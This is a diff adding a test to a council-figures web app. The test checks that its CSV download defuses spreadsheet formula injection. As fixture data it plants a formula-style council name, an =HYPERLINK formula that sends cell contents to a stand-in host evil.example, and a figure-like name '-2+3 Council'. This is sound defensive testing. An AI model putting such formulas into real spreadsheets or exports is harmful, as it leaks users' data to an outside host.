@@ -203,6 +203,49 @@ def test_the_csv_holds_the_figures_of_every_year(guarded: GuardedPage, preview: 
             assert (float(row[key]) if row[key] else None) == rate
 
 
+FORMULAS = {  # an authority's name as a hostile export could give it, per released year
+    RELEASED[0]: "-2+3 Council",
+    RELEASED[1]: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+}
+
+
+@pytest.fixture(scope="module")
+def formula_names(pipeline_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Preview]:
+    """The released years with one council's name a spreadsheet formula, and one figure negative."""
+    root = tmp_path_factory.mktemp("formula-names") / "store"
+    shutil.copytree(pipeline_store / "public", root / "public")
+    code = pick(pipeline_store)["busiest"]["authority_code"]
+    for year, name in FORMULAS.items():
+        path = root / "public" / year / "json" / "index.json"
+        doc = json.loads(path.read_bytes())
+        for record in doc["authorities"]:
+            if record["authority_code"] == code:
+                record["authority_name"] = name
+                record["complaints_received"] = -4  # a figure, not text: written as the number it is
+        path.write_text(json.dumps(doc))
+    for url in serve(PublicView(LocalStore(root))):
+        yield Preview(url, root)
+
+
+def test_the_csv_starts_no_formula_and_keeps_the_figures(browser: Browser, formula_names: Preview) -> None:
+    code = pick(formula_names.store)["busiest"]["authority_code"]
+    with guarded_page(browser, formula_names.url) as page:
+        open_council(page, formula_names.url, code)
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Download these figures (CSV)").click()
+        text = Path(download.value.path()).read_text(encoding="utf-8")
+    rows = list(csv.DictReader(text.splitlines()))
+    assert {r["year"]: r["authority_name"] for r in rows} == {y: "'" + n for y, n in FORMULAS.items()}
+    assert [r["complaints_received"] for r in rows] == ["-4", "-4"]
+    assert all(r["authority_code"] == code and not r["authority_type"].startswith("'") for r in rows)
+    # text cells quoted whole (no locale's separator splits one), figures bare
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"' in text
+    assert all(
+        line.startswith(f'"{year}",') for line, year in zip(text.splitlines()[1:], FORMULAS, strict=True)
+    )
+    assert text.count(",-4,") == 2
+
+
 def test_the_index_lists_every_authority_and_filters_as_one_types(
     guarded: GuardedPage, preview: Preview
 ) -> None:
